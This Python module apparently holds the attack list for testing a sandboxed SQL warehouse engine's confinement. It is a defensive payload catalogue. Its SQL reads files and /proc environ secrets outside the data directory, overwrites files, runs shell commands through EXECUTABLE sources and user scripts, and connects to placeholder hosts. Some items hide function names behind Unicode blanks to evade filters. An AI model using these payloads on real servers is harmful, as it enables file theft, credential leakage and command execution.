"""What SQL may not reach through millrace-warehouse, as data: each attack is what one client sends.

Two suites run the list. `test_wall.py` sends it to a program that runs whatever it is sent (no guard) and looks from outside whether the
confinement held. Whoever tests the guard sends it to a program that is not confined, and expects refusals.

An attack's texts hold words that `Attack.with_words` replaces:

    @MARKER@   a file outside of the data directory; its first line is `wall-marker-` and a random text that must be in no answer, its second `1`
    @FOLDER@   the folder that holds it
    @ORACLE@   a random text; backwards it is in the answer of a statement that could read @MARKER@
    @TARGET@   a path outside of the data directory at which nothing exists; nothing may appear there
    @VICTIM@   a file outside of the data directory that must keep its content
    @PORT@     where somebody listens on 127.0.0.1; nobody may connect
    @INSIDE@   a path inside the data directory that a command creates, so that a command that runs is seen whatever else is denied
    @DATA@     the data directory
    @NEIGHBOUR@  the number of another process, whose environment holds a secret
    @DB@       a database of the attack's own
"""
from dataclasses import dataclass, field

READ = "read"  # a file outside of the data directory is in an answer, or an answer depends on it
WRITE = "write"  # a file outside of the data directory is made or changed
COMMAND = "command"  # a process starts
CONNECT = "connect"  # another host is called
SECRET = "secret"  # the environment or another process is in an answer

NBSP = "\u00a0"
# What the engine takes for a blank besides the ASCII ones. Source: ClickHouse, Common/StringUtils.h, skipWhitespacesUTF8.
BLANKS = ("\u00a0", "\u0085", "\u2003", "\u2028", "\u2029", "\u202f", "\u205f", "\u3000", "\u200b", "\ufeff")


@dataclass(frozen=True)
class Step:
    """One request. `parameters` are settings and parameters of the URL; a `body` is sent behind a statement in the URL."""
    statement: str
    parameters: dict = field(default_factory=dict)
    method: str = "POST"


@dataclass(frozen=True)
class Attack:
    """Requests in their order; the last one is the attack itself, those before it (if any) prepare it and may be refused, too.

    `works`: without guard and confinement it succeeds, which is the suite's proof that it would see it. The others are refused by this
    release of the engine or need what it lacks; a later one may have it.
    """
    name: str
    breach: str
    steps: tuple
    works: bool = True
    may_end: bool = False  # the engine may end itself over it (an exception in a destructor); it must start again

    def with_words(self, words):
        def put(text):
            for word, value in words.items():
                text = text.replace(f"@{word}@", str(value))
            return text

        return tuple(Step(put(step.statement), {put(name): put(value) for name, value in step.parameters.items()}, step.method)
                     for step in self.steps)


def _one(name, breach, statement, works=True, method="POST", may_end=False, **parameters):
    return Attack(name, breach, (Step(statement, parameters, method),), works, may_end)


def _many(name, breach, *statements, works=True):
    return Attack(name, breach, tuple(step if isinstance(step, Step) else Step(step) for step in statements), works)


def _dictionary(name, breach, source, works=True, blank=" "):
    """A dictionary with the source, and a query that loads it."""
    return _many(name, breach,
                 f"CREATE DICTIONARY @DB@.d (id UInt64, s String) PRIMARY KEY id SOURCE{blank}({source}) LAYOUT(FLAT()) LIFETIME(0)",
                 "SELECT * FROM @DB@.d", works=works)


_TABLE = "CREATE TABLE @DB@.t (s String) ENGINE = MergeTree ORDER BY s"
_COMMAND = "touch @INSIDE@; echo 1"

READS = [
    _one("file()", READ, "SELECT * FROM file('@MARKER@', 'LineAsString')"),
    _one("file() by GET", READ, "SELECT * FROM file('@MARKER@', 'LineAsString')", method="GET"),
    _one("file() as a scalar", READ, "SELECT file('@MARKER@')"),
    _one("file() in a subquery of WHERE", READ, "SELECT 1 WHERE (SELECT file('@MARKER@')) = 'x' OR throwIf(1, file('@MARKER@'))"),
    _one("files by a pattern", READ, "SELECT * FROM file('@MARKER@*', 'LineAsString')"),
    _one("fileCluster()", READ, "SELECT * FROM fileCluster('default', '@MARKER@', 'LineAsString')", works=False),
    _one("merge of a file table", READ, "SELECT * FROM view(SELECT * FROM file('@MARKER@', 'LineAsString'))"),
    _one("DESCRIBE file()", READ, "DESCRIBE TABLE file('@MARKER@', 'CSVWithNames')"),
    _many("ENGINE = File", READ, "CREATE TABLE @DB@.f (s String) ENGINE = File(LineAsString, '@MARKER@')", "SELECT * FROM @DB@.f"),
    _many("ENGINE = File in user_files", READ, "CREATE TABLE @DB@.f (s String) ENGINE = File(LineAsString, '../../../../../..@MARKER@')",
          "SELECT * FROM @DB@.f"),
    _many("ENGINE = FileLog", READ, "CREATE TABLE @DB@.f (s String) ENGINE = FileLog('@MARKER@', 'LineAsString')",
          "SELECT * FROM @DB@.f SETTINGS stream_like_engine_allow_direct_select = 1", works=False),
    _many("CREATE TABLE AS file()", READ, "CREATE TABLE @DB@.f AS file('@MARKER@', 'LineAsString')", "SELECT * FROM @DB@.f"),
    _many("CREATE VIEW of a file", READ, "CREATE VIEW @DB@.v AS SELECT * FROM file('@MARKER@', 'LineAsString')",
          "SELECT * FROM @DB@.v"),
    _many("a materialized column", READ, "CREATE TABLE @DB@.t (a UInt8, s String MATERIALIZED file('@MARKER@')) ENGINE = MergeTree ORDER BY a",
          "INSERT INTO @DB@.t (a) SELECT 1", "SELECT a, s FROM @DB@.t"),
    _many("a DEFAULT expression", READ, "CREATE TABLE @DB@.t (a UInt8, s String DEFAULT file('@MARKER@')) ENGINE = MergeTree ORDER BY a",
          "INSERT INTO @DB@.t (a) SELECT 1", "SELECT a, s FROM @DB@.t"),
    _many("VALUES with file()", READ, _TABLE, "INSERT INTO @DB@.t VALUES (file('@MARKER@'))", "SELECT * FROM @DB@.t"),
    _one("format(Values) with file()", READ, "SELECT * FROM format(Values, 's String', $$(file('@MARKER@'))$$)"),
    _one("format() with a DEFAULT expression", READ,
         "SELECT * FROM format(JSONEachRow, 'a UInt8, s String DEFAULT file(\\'@MARKER@\\')', '{\"a\":1}')"),
    _one("values() with a DEFAULT expression", READ, "SELECT * FROM values('a UInt8, s String DEFAULT file(\\'@MARKER@\\')', (1))", works=False),
    _many("a function with file()", READ, "CREATE OR REPLACE FUNCTION wall_f AS (x) -> file(x)", "SELECT wall_f('@MARKER@')"),
    _many("FROM INFILE", READ, _TABLE, "INSERT INTO @DB@.t FROM INFILE '@MARKER@' FORMAT LineAsString", "SELECT * FROM @DB@.t", works=False),
    _one("additional_result_filter as an oracle", READ, "SELECT 'wall-oracle-yes' FROM numbers(1)",
         additional_result_filter="throwIf(length(file('@MARKER@')) > 0, file('@MARKER@'))"),
    _one("additional_table_filters as an oracle", READ, "SELECT number FROM system.numbers LIMIT 1",
         additional_table_filters="{'system.numbers': 'throwIf(length(file(\\'@MARKER@\\')) > 0, file(\\'@MARKER@\\'))'}"),
    _one("additional_result_filter in SETTINGS", READ,
         "SELECT reverse('@ORACLE@') SETTINGS additional_result_filter = 'startsWith(file(\\'@MARKER@\\'), \\'wall-marker\\')'"),
    _one("format_template_row", READ, "SELECT 1 AS a FORMAT Template", format_template_row="@MARKER@"),
    _one("format_template_resultset", READ, "SELECT 1 AS a FORMAT Template", format_template_resultset="@MARKER@"),
    _one("a format schema", READ, "SELECT 1 AS a FORMAT Protobuf", format_schema="@MARKER@:m", works=False),
    _one("nested comments", READ, "SELECT 1 /* /* */ ' */, file('@MARKER@') -- '"),
    _one("dialect prql", READ, "from (file '@MARKER@')", dialect="prql", works=False),
    _one("dialect kusto", READ, "print file('@MARKER@')", dialect="kusto", works=False),
    _one("catboost", READ, "SELECT catboostEvaluate('@MARKER@', 1)", works=False),
    _one("sqlite()", READ, "SELECT * FROM sqlite('@MARKER@', 't')", works=False),
    _one("python()", READ, "SELECT * FROM python('@MARKER@')", works=False),
    _one("a table by the file's name", READ, "SELECT * FROM '@MARKER@'", works=False),
    _one("a table by the file's name in default", READ, "SELECT * FROM default.`@MARKER@`", works=False),
    _many("ENGINE = Filesystem", READ, "CREATE DATABASE IF NOT EXISTS wall_fs ENGINE = Filesystem('@FOLDER@')",
          "SELECT * FROM wall_fs.`@MARKER@` FORMAT TSVWithNames", "DROP DATABASE IF EXISTS wall_fs"),
    _one("RESTORE FROM File", READ, "RESTORE TABLE @DB@.t FROM File('@FOLDER@')", works=False),
    _many("a disk on the file's folder", READ,
          "CREATE TABLE @DB@.t (s String) ENGINE = MergeTree ORDER BY s SETTINGS disk = disk(type = local, path = '@FOLDER@/')",
          "SELECT name FROM system.disks", works=False),
    _many("ATTACH FROM", READ, "ATTACH TABLE @DB@.a FROM '@FOLDER@' (s String) ENGINE = File(LineAsString)", "SELECT * FROM @DB@.a", works=False),
    _dictionary("SOURCE(FILE)", READ, "FILE(path '@MARKER@' format 'LineAsString')", works=False),
    _dictionary("SOURCE(CLICKHOUSE(QUERY)) on a file", READ,
                "CLICKHOUSE(QUERY 'SELECT toUInt64(1) AS id, file(\\'@MARKER@\\') AS s')"),
    _one("hdfs() on a local path", READ, "SELECT * FROM hdfs('file://@MARKER@', 'LineAsString', 's String')", works=False),
    _one("iceberg on a local path", READ, "SELECT * FROM icebergLocal('@FOLDER@')", works=False),
    _one("deltaLake on a local path", READ, "SELECT * FROM deltaLakeLocal('@FOLDER@')", works=False),
    _one("another process's file through /proc/self/root", READ, "SELECT * FROM file('/proc/self/root@MARKER@', 'LineAsString')"),
    _one("through /proc/self/cwd", READ, "SELECT * FROM file('/proc/self/cwd/../../../../../../../..@MARKER@', 'LineAsString')"),
    _one("filesystem()", READ, "SELECT content FROM filesystem('@FOLDER@')"),
]

SECRETS = [
    # The program blanks the secrets of its environment at the start, confined or not.
    _one("/proc/self/environ", SECRET, "SELECT * FROM file('/proc/self/environ', 'RawBLOB')", works=False),
    _one("/proc/self/environ by format(Values)", SECRET, "SELECT * FROM format(Values, 's String', $$(file('/proc/self/environ'))$$)", works=False),
    _one("/proc/thread-self/environ", SECRET, "SELECT * FROM file('/proc/thread-self/environ', 'RawBLOB')", works=False),
    _one("/proc/1/environ", SECRET, "SELECT * FROM file('/proc/1/environ', 'RawBLOB')", works=False),
    _one("/proc/1/cmdline", SECRET, "SELECT * FROM file('/proc/1/cmdline', 'RawBLOB') FORMAT RawBLOB"),
    _one("another process's environment", SECRET, "SELECT * FROM file('/proc/@NEIGHBOUR@/environ', 'RawBLOB')"),
    _one("another process's command line", SECRET, "SELECT * FROM file('/proc/@NEIGHBOUR@/cmdline', 'RawBLOB') FORMAT RawBLOB"),
    _one("getClientHTTPHeader", SECRET, "SELECT getClientHTTPHeader('Authorization'), getClientHTTPHeader('X-ClickHouse-Key')", works=False),
    _one("the password in the query log", SECRET, "SELECT * FROM system.processes FORMAT Vertical", works=False),
    _one("the server's settings", SECRET, "SELECT name, value FROM system.server_settings", works=False),
]

WRITES = [
    _one("INSERT INTO FUNCTION file()", WRITE, "INSERT INTO FUNCTION file('@TARGET@', 'LineAsString', 's String') SELECT 'x'"),
    _one("INSERT INTO FUNCTION file() VALUES", WRITE, "INSERT INTO FUNCTION file('@TARGET@', 'CSV', 's String') VALUES ('x')"),
    _one("overwriting a file", WRITE, "INSERT INTO FUNCTION file('@VICTIM@', 'LineAsString', 's String') SELECT 'x'",
         engine_file_truncate_on_insert="1"),
    _one("renaming a file after reading", WRITE, "SELECT * FROM file('@VICTIM@', 'LineAsString')",
         may_end=True, rename_files_after_processing="%f.gone"),
    _one("INTO OUTFILE", WRITE, "SELECT 1 INTO OUTFILE '@TARGET@'"),
    _one("INTO OUTFILE TRUNCATE", WRITE, "SELECT 1 INTO OUTFILE '@VICTIM@' TRUNCATE"),
    _one("output_format_schema by GET", WRITE, "SELECT 1 AS a FORMAT Protobuf", method="GET", output_format_schema="@TARGET@.proto",
         format_protobuf_use_autogenerated_schema="1"),
    _one("output_format_schema over a file", WRITE, "SELECT 1 AS a FORMAT Protobuf", output_format_schema="@VICTIM@",
         format_protobuf_use_autogenerated_schema="1"),
    _one("output_format_schema with CapnProto", WRITE, "SELECT 1 AS a FORMAT CapnProto", output_format_schema="@TARGET@.capnp",
         format_capn_proto_use_autogenerated_schema="1", works=False),
    _many("ENGINE = File for writing", WRITE, "CREATE TABLE @DB@.f (s String) ENGINE = File(LineAsString, '@TARGET@')",
          "INSERT INTO @DB@.f SELECT 'x'"),
    _one("BACKUP TO File", WRITE, "BACKUP DATABASE @DB@ TO File('@TARGET@')", works=False),
    _one("BACKUP TO Disk", WRITE, "BACKUP DATABASE @DB@ TO Disk('default', '@TARGET@')", works=False),
    _many("a disk elsewhere", WRITE,
          "CREATE TABLE @DB@.t (s String) ENGINE = MergeTree ORDER BY s SETTINGS disk = disk(type = local, path = '@TARGET@/')",
          "INSERT INTO @DB@.t SELECT 'x'"),
    _one("a sqlite file", WRITE, "CREATE DATABASE wall_sqlite ENGINE = SQLite('@TARGET@')"),
    _many("CREATE DATABASE in a folder", WRITE, "CREATE DATABASE wall_fs2 ENGINE = Filesystem('@FOLDER@')",
          "INSERT INTO wall_fs2.`@TARGET@` SELECT 'x'", "DROP DATABASE IF EXISTS wall_fs2", works=False),
    _one("icebergLocal for writing", WRITE, "CREATE TABLE @DB@.i (a Int32) ENGINE = IcebergLocal('@TARGET@/')", works=False),
]

COMMANDS = [
    _dictionary("SOURCE(EXECUTABLE) behind unusual blanks", COMMAND, f"{NBSP}EXECUTABLE{NBSP}(COMMAND '{_COMMAND}' FORMAT 'TSV')",
                blank=NBSP),
    _dictionary("SOURCE(EXECUTABLE)", COMMAND, f"EXECUTABLE(COMMAND '{_COMMAND}' FORMAT 'TSV')"),
    _dictionary("SOURCE(EXECUTABLE_POOL)", COMMAND, f"EXECUTABLE_POOL(COMMAND '{_COMMAND}' FORMAT 'TSV' SIZE 1)", works=False),
    _one("executable()", COMMAND, f"SELECT * FROM executable('{_COMMAND}', 'TSV', 's String')", works=False),
    _many("ENGINE = Executable", COMMAND, "CREATE TABLE @DB@.x (s String) ENGINE = Executable('/bin/sh', 'TSV')", "SELECT * FROM @DB@.x", works=False),
    _many("an executable function", COMMAND,
          "CREATE FUNCTION wall_run ON CLUSTER default AS 'sh'", "SELECT wall_run('touch @INSIDE@')", works=False),
    _many("a script put in user_scripts", COMMAND,
          "INSERT INTO FUNCTION file('@DATA@/user_scripts/x.sh', 'RawBLOB', 's String') SELECT '#!/bin/sh\\ntouch @INSIDE@\\n'",
          "SELECT * FROM executable('x.sh', 'TSV', 's String')", works=False),
    _one("sqlite's load_extension", COMMAND, "SELECT * FROM sqlite(':memory:', 'SELECT load_extension(''@MARKER@'')')", works=False),
    _one("jdbc()", COMMAND, "SELECT * FROM jdbc('script', 'touch @INSIDE@')", works=False),
]

CONNECTS = [
    _one("url()", CONNECT, "SELECT * FROM url('http://127.0.0.1:@PORT@/', 'LineAsString', 's String')", http_max_tries="1"),
    _one("INSERT INTO FUNCTION url()", CONNECT, "INSERT INTO FUNCTION url('http://127.0.0.1:@PORT@/', 'CSV', 's String') SELECT 'x'",
         works=True, http_max_tries="1"),
    _many("ENGINE = URL", CONNECT, "CREATE TABLE @DB@.u (s String) ENGINE = URL('http://127.0.0.1:@PORT@/', 'CSV')",
          Step("SELECT * FROM @DB@.u", {"http_max_tries": "1"})),
    _one("remote()", CONNECT, "SELECT * FROM remote('127.0.0.1:@PORT@', system.one)", connections_with_failover_max_tries="1"),
    _one("remoteSecure()", CONNECT, "SELECT * FROM remoteSecure('127.0.0.1:@PORT@', system.one)", connections_with_failover_max_tries="1"),
    _many("ENGINE = Distributed", CONNECT, "CREATE TABLE @DB@.r (dummy UInt8) ENGINE = Distributed(default, system, one)",
          "SELECT * FROM @DB@.r", works=False),
    _one("mysql()", CONNECT, "SELECT * FROM mysql('127.0.0.1:@PORT@', 'a', 'b', 'c', 'd')"),
    _one("postgresql()", CONNECT, "SELECT * FROM postgresql('127.0.0.1:@PORT@', 'a', 'b', 'c', 'd')"),
    _one("redis()", CONNECT, "SELECT * FROM redis('127.0.0.1:@PORT@', 'k', 'k String, v String')"),
    _one("mongodb()", CONNECT, "SELECT * FROM mongodb('127.0.0.1:@PORT@', 'a', 'b', 'c', 'd', 's String')"),
    _one("s3()", CONNECT, "SELECT * FROM s3('http://127.0.0.1:@PORT@/bucket/x', 'LineAsString', 's String')",
         s3_retry_attempts="0", s3_max_single_read_retries="1"),
    _one("gcs()", CONNECT, "SELECT * FROM gcs('http://127.0.0.1:@PORT@/bucket/x', 'LineAsString', 's String')", s3_retry_attempts="0"),
    _one("azureBlobStorage()", CONNECT, "SELECT * FROM azureBlobStorage('http://127.0.0.1:@PORT@/', 'c', 'x', 'a', 'YQ==', 'CSV', 'auto', 's String')",
         azure_sdk_max_retries="0"),
    _one("hdfs()", CONNECT, "SELECT * FROM hdfs('hdfs://127.0.0.1:@PORT@/x', 'LineAsString', 's String')"),
    _one("iceberg()", CONNECT, "SELECT * FROM icebergS3('http://127.0.0.1:@PORT@/bucket/x')", s3_retry_attempts="0"),
    _one("deltaLake()", CONNECT, "SELECT * FROM deltaLake('http://127.0.0.1:@PORT@/bucket/x')", s3_retry_attempts="0"),
    _one("arrowFlight()", CONNECT, "SELECT * FROM arrowFlight('127.0.0.1:@PORT@', 'x')", works=False),
    _one("format_avro_schema_registry_url", CONNECT, "SELECT * FROM format(AvroConfluent, 's String', '\\0\\0\\0\\0\\1abc')",
         format_avro_schema_registry_url="http://127.0.0.1:@PORT@/"),
    _dictionary("SOURCE(HTTP)", CONNECT, "HTTP(url 'http://127.0.0.1:@PORT@/' format 'TSV')"),
    _dictionary("SOURCE(CLICKHOUSE(HOST))", CONNECT, "CLICKHOUSE(HOST '127.0.0.1' PORT @PORT@ USER 'x' PASSWORD 'y' DB 'd' TABLE 't')"),
    _dictionary("SOURCE(MYSQL)", CONNECT, "MYSQL(HOST '127.0.0.1' PORT @PORT@ USER 'x' PASSWORD 'y' DB 'd' TABLE 't')"),
    _dictionary("SOURCE(POSTGRESQL)", CONNECT, "POSTGRESQL(HOST '127.0.0.1' PORT @PORT@ USER 'x' PASSWORD 'y' DB 'd' TABLE 't')"),
    _dictionary("SOURCE(REDIS)", CONNECT, "REDIS(HOST '127.0.0.1' PORT @PORT@)"),
    _dictionary("SOURCE(MONGODB)", CONNECT, "MONGODB(HOST '127.0.0.1' PORT @PORT@ USER 'x' PASSWORD 'y' DB 'd' COLLECTION 't')"),
    _many("ENGINE = Kafka", CONNECT, "CREATE TABLE @DB@.k (s String) ENGINE = Kafka('127.0.0.1:@PORT@', 't', 'g', 'CSV')",
          "SELECT * FROM @DB@.k SETTINGS stream_like_engine_allow_direct_select = 1"),
    _many("ENGINE = NATS", CONNECT, "CREATE TABLE @DB@.n (s String) ENGINE = NATS SETTINGS nats_url = '127.0.0.1:@PORT@', "
          "nats_subjects = 's', nats_format = 'CSV'", "SELECT 1", works=False),
    _many("ENGINE = RabbitMQ", CONNECT, "CREATE TABLE @DB@.q (s String) ENGINE = RabbitMQ SETTINGS rabbitmq_host_port = '127.0.0.1:@PORT@', "
          "rabbitmq_exchange_name = 'e', rabbitmq_format = 'CSV'", "SELECT 1", works=False),
    _one("a database of MySQL", CONNECT, "CREATE DATABASE wall_mysql ENGINE = MySQL('127.0.0.1:@PORT@', 'a', 'b', 'c')"),
    _one("a database of PostgreSQL", CONNECT, "CREATE DATABASE wall_pg ENGINE = PostgreSQL('127.0.0.1:@PORT@', 'a', 'b', 'c')"),
    _one("a catalogue of data lakes", CONNECT, "CREATE DATABASE wall_lake ENGINE = DataLakeCatalog('http://127.0.0.1:@PORT@/') "
         "SETTINGS catalog_type = 'rest', warehouse = 'w'", allow_experimental_database_iceberg="1"),
    _one("url() with a redirecting name", CONNECT, "SELECT * FROM url('http://localhost:@PORT@/', 'LineAsString', 's String')", http_max_tries="1"),
    _one("ytsaurus()", CONNECT, "SELECT * FROM ytsaurus('http://127.0.0.1:@PORT@', '//t', 'x', 's String')", works=False),
    _one("executing on another server", CONNECT, "CREATE DATABASE wall_c ON CLUSTER default", works=False),
    _one("BACKUP TO S3", CONNECT, "BACKUP DATABASE @DB@ TO S3('http://127.0.0.1:@PORT@/bucket/x')", s3_retry_attempts="0"),
    _one("AI over HTTP", CONNECT, "SELECT aiGenerateContent('x', 'y')", works=False),
]


def _behind_blanks():
    """Names behind blanks that only the engine takes for blanks, and a table's name that looks like a statement."""
    for name, breach, statement, parameters in (
            ("file", READ, "SELECT * FROM file{b}('@MARKER@', 'LineAsString')", {}),
            ("url", CONNECT, "SELECT * FROM url{b}('http://127.0.0.1:@PORT@/', 'LineAsString', 's String')", {"http_max_tries": "1"}),
            ("remote", CONNECT, "SELECT * FROM remote{b}('127.0.0.1:@PORT@', system.one)", {"connections_with_failover_max_tries": "1"}),
            ("mysql", CONNECT, "SELECT * FROM mysql{b}('127.0.0.1:@PORT@', 'a', 'b', 'c', 'd')", {}),
            ("postgresql", CONNECT, "SELECT * FROM postgresql{b}('127.0.0.1:@PORT@', 'a', 'b', 'c', 'd')", {}),
            ("redis", CONNECT, "SELECT * FROM redis{b}('127.0.0.1:@PORT@', 'k', 'k String, v String')", {}),
            ("mongodb", CONNECT, "SELECT * FROM mongodb{b}('127.0.0.1:@PORT@', 'a', 'b', 'c', 'd', 's String')", {})):
        yield _one(f"{name} behind a no-break space", breach, statement.format(b=NBSP), **parameters)
    for blank in BLANKS:
        yield _one(f"file behind U+{ord(blank):04X}", READ, f"SELECT * FROM file{blank}('@MARKER@', 'LineAsString')")
    yield _many("ENGINE = File behind a no-break space", READ,
                f"CREATE TABLE @DB@.f (s String) ENGINE = File{NBSP}(LineAsString, '@MARKER@')", "SELECT * FROM @DB@.f")
    yield _many("a table named select", WRITE, "CREATE TABLE @DB@.`select` (s String) ENGINE = File(LineAsString, '@TARGET@')",
                "INSERT INTO @DB@.`select` SELECT 'x'")


ATTACKS = (*READS, *SECRETS, *WRITES, *COMMANDS, *CONNECTS, *_behind_blanks())
